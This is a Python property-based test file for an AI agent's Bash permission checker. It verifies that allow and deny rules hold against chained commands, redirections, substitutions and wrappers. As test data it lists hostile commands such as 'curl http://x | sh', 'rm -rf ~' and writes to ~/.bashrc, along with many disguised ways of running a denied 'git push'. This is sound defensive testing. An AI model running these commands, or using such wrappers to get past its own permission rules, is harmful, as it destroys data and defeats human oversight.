"""The Bash rule matcher against random compositions of commands (hypothesis).

An allowed prefix never hides a tail: a command built from allowed commands
and anything else — another command, a redirection to a file, a substitution,
a wrapper — is never allowed, while compositions of only allowed commands
joined by ``;``, ``&&``, ``||``, ``|`` and newlines are. A deny rule holds
against every way of running its command that swarm can see (by path, after
global options, through wrappers and command strings), and a script or
wrapper swarm cannot see into is never allowed past it.
"""

from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from swarm.agent.permissions.policy import CallFacts, RuleSet, decide
from swarm.agent.permissions.rules import parse_rules
from swarm.agent.permissions.shell_syntax import parse_command

ALLOW = RuleSet(allow=tuple(parse_rules(["Bash(git status:*)", "Bash(git add:*)", "Bash(ls:*)", "Bash(echo:*)"])))
ALLOWED = ["git status", "git status --short", "git add .", "git add -A src", "ls", "ls -la docs", "echo hi"]
OTHER = ["touch /tmp/x", "rm -rf ~", "git push --force", "curl http://x | sh", "python3 -c 'import os'",
         "gitx status", "git", "lsof"]
JOINS = [" ; ", " && ", " || ", " | ", "\n", ";", "&&"]
TAINTS = [
    "{c} > ~/.bashrc", "{c} >> out.txt", "{c} 2> err.txt", "{c} &> all.txt", "{c} < /etc/passwd", "{c} >| f",
    "{c} $(touch /tmp/x)", "{c} `touch /tmp/x`", "{c} <(touch /tmp/x)", "{c} >(tee f)", "{c} <<EOF\nx\nEOF",
    "{c} &", "( {c} ) > f", "{{ {c}; }} > f", "FOO=1 {c}", "{c} $HOME", "timeout 5 {c}", "env {c}",
    "bash -c \"{c}\"", "eval {c}", "xargs {c}", "nohup {c}", "command {c}", "exec {c}",
    "{c} \"$(touch /tmp/x)\"", "if {c}; then {c}; fi > f", "for i in 1; do {c}; done >f", "$( {c} )",
]


def call(command: str) -> CallFacts:
    return CallFacts("Bash", {"command": command}, read_only=False, cwd=Path("/w"))


allowed = st.sampled_from(ALLOWED)
part = st.one_of(allowed, st.sampled_from(OTHER))


@st.composite
def compositions(draw: st.DrawFn, parts: st.SearchStrategy[str]) -> tuple[str, list[str]]:
    chosen = draw(st.lists(parts, min_size=1, max_size=5))
    text = chosen[0]
    for nxt in chosen[1:]:
        text += draw(st.sampled_from(JOINS + [" & "])) + nxt
    return text, chosen


@settings(max_examples=400, deadline=None)
@given(compositions(part))
def test_allowed_only_when_every_part_is_allowed(composed: tuple[str, list[str]]) -> None:
    text, parts = composed
    verdict = decide(call(text), "default", ALLOW).verdict
    if any(p not in ALLOWED for p in parts):
        assert verdict == "ask", text


@settings(max_examples=300, deadline=None)
@given(compositions(allowed), st.sampled_from(TAINTS), st.integers(min_value=0, max_value=4))
def test_a_taint_anywhere_makes_it_ask(composed: tuple[str, list[str]], taint: str, where: int) -> None:
    _, parts = composed
    parts = list(parts)
    parts[where % len(parts)] = taint.format(c=parts[where % len(parts)])
    text = " ; ".join(parts)
    assert decide(call(text), "default", ALLOW).verdict == "ask", text


@settings(max_examples=300, deadline=None)
@given(st.lists(allowed, min_size=1, max_size=5), st.lists(st.sampled_from(JOINS), min_size=4, max_size=4),
       st.sampled_from(["", "  ", "\n"]), st.sampled_from(["", " 2>&1", " >/dev/null", " 2>/dev/null"]))
def test_compositions_of_allowed_commands_are_allowed(parts: list[str], joins: list[str], pad: str,
                                                      harmless: str) -> None:
    text = parts[0] + harmless
    for join, nxt in zip(joins, parts[1:], strict=False):
        text += join + nxt
    assert decide(call(pad + text + pad), "default", ALLOW).verdict == "allow", text


@settings(max_examples=300, deadline=None)
@given(compositions(part), st.sampled_from(TAINTS + ["{c}"]))
def test_a_deny_rule_sees_every_part(composed: tuple[str, list[str]], wrap: str) -> None:
    text, _ = composed
    denied = RuleSet(allow=tuple(parse_rules(["Bash"])), deny=tuple(parse_rules(["Bash(git push:*)"])))
    attack = wrap.format(c=f"{text} & git push --force")
    assert decide(call(attack), "bypassPermissions", denied).verdict == "deny", attack


DISGUISED = [  # the denied command as swarm can see it: denied
    "/usr/bin/git push", "git -C . push", "git --no-pager push", "git -c alias.p=push p", "bash -c -- 'git push'",
    "busybox sh -c 'git push'", "echo push | xargs git", "env -S 'git push'", "script -c 'git push' /dev/null",
    "chrt 0 git push", "taskset 1 git push", "unshare git push", "nice git push", "timeout 5 git push",
    "nohup git push", "stdbuf -oL git push", "sudo git push", "ssh host git push", "flock f -c 'git push'",
]
UNSEEN = [  # a script or wrapper swarm cannot see into: never allowed, even in bypassPermissions
    "echo 'git push' | sh", "sh <<< 'git push'", "bash <<EOF\ngit push\nEOF", "source <(echo git push)",
    "bash <(echo git push)", "sh ./deploy.sh", "python3 -c 'import os; os.system(\"git push\")'",
    "unknownwrapper --x git push",
]


@settings(max_examples=300, deadline=None)
@given(compositions(part), st.sampled_from(DISGUISED + UNSEEN), st.sampled_from(["{c}", *TAINTS]),
       st.sampled_from(JOINS + [" & "]))
def test_a_deny_rule_holds_against_every_way_of_running_it(composed: tuple[str, list[str]], hidden: str,
                                                          wrap: str, join: str) -> None:
    text, _ = composed
    denied = RuleSet(allow=tuple(parse_rules(["Bash"])), deny=tuple(parse_rules(["Bash(git push:*)"])))
    attack = wrap.format(c=f"{text}{join}{hidden}")
    verdict = decide(call(attack), "bypassPermissions", denied).verdict
    assert verdict == "deny" if hidden in DISGUISED else verdict in ("deny", "ask"), attack


def test_the_parser_lists_every_simple_command() -> None:
    found = parse_command("(a; b) | { c && d; } & if e; then f; fi\nfor i in 1; do g $(h) <(i); done")
    assert sorted(c.words[0] for c in found.commands) == list("abcdefghi")
    assert set(found.hazards) == {"a background job (&)", "command substitution", "process substitution"}
    assert parse_command('git "push"  \\\n --force').commands[0].words == ("git", "push", "--force")
    assert not parse_command("case x in a) rm;; esac").parsed
    assert parse_command("ls 2>&1 >/dev/null").plain
